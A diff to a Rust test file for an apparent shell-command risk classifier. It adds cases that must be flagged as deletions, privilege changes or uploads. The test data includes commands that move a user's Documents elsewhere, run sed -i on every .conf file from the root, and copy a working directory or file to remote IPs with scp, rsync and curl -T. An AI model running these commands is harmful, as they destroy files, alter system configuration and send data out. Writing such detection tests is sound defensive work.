@@ -120,6 +120,10 @@ fn what_a_write_takes_away_is_a_delete_and_what_takes_nothing_away_is_none() {
         ("ln -sf src/clean.rs notes.txt", Some("shell.delete")),
         ("mv ~/Documents/thesis.tex ~/Documents/other.tex", Some("shell.delete")),
         ("mv ~/Documents ~/old", Some("shell.delete")),
+        ("mv ~/Documents/* /tmp/elsewhere/", Some("shell.delete")),
+        ("mv -t /tmp/elsewhere $(ls -d ~/Documents/*)", Some("shell.delete")),
+        ("find ~/Documents -name '*.tex' -exec mv -t /tmp/elsewhere {} +", Some("shell.delete")),
+        ("mv ~/Documents/*.docx /tmp/elsewhere/", None),
         ("python3 -c \"open('HOME/Documents/thesis.tex','w').write('')\"", Some("shell.delete")),
         ("rsync -a src/ ~/Documents/", Some("shell.delete")),
         ("cp -n src/clean.rs ~/Documents/thesis.tex", None),
@@ -165,6 +169,7 @@ fn what_decides_who_may_act_and_what_runs_is_told_as_that() {
     for (command, code) in [
         ("echo x >> /etc/passwd", "shell.privilege"),
         ("echo x | tee /etc/sudoers.d/me", "shell.privilege"),
+        ("find / -name '*.conf' | xargs sed -i s/a/b/", "shell.privilege"),
         ("install -m 755 src/clean.rs /usr/bin/python3", "shell.privilege"),
         ("cp src/clean.rs /usr/local/bin/git", "shell.privilege"),
         ("cp src/clean.rs ~/.local/bin/git", "shell.persistence"),
@@ -307,5 +312,22 @@ fn a_sentence_about_a_protected_file_says_what_reads_it() {
     ] {
         let (codes, _, told) = home.seen("shell:execute", "command", &format!("echo x > {path}"));
         assert_eq!(told.contains(class), says, "{path}: {codes:?} {told}");
+    }
+}
+
+#[test]
+fn what_is_sent_to_a_host_is_an_upload_whatever_else_is_wrong_with_the_host() {
+    let home = Home::new();
+    for command in [
+        "scp -r . user@198.51.100.7:/tmp/",
+        "rsync -a ./ user@10.1.2.3:/srv/",
+        "curl -T src/clean.rs http://198.51.100.7/",
+    ] {
+        let (codes, _, told) = home.seen("shell:execute", "command", command);
+        assert!(codes.iter().any(|own| own == "shell.upload"), "{command}: {codes:?} {told}");
+    }
+    for command in ["ssh user@10.1.2.3 ls", "scp user@10.1.2.3:/srv/a .", "curl http://198.51.100.7/"] {
+        let (codes, _, told) = home.seen("shell:execute", "command", command);
+        assert!(!codes.iter().any(|own| own == "shell.upload"), "{command}: {codes:?} {told}");
     }
 }
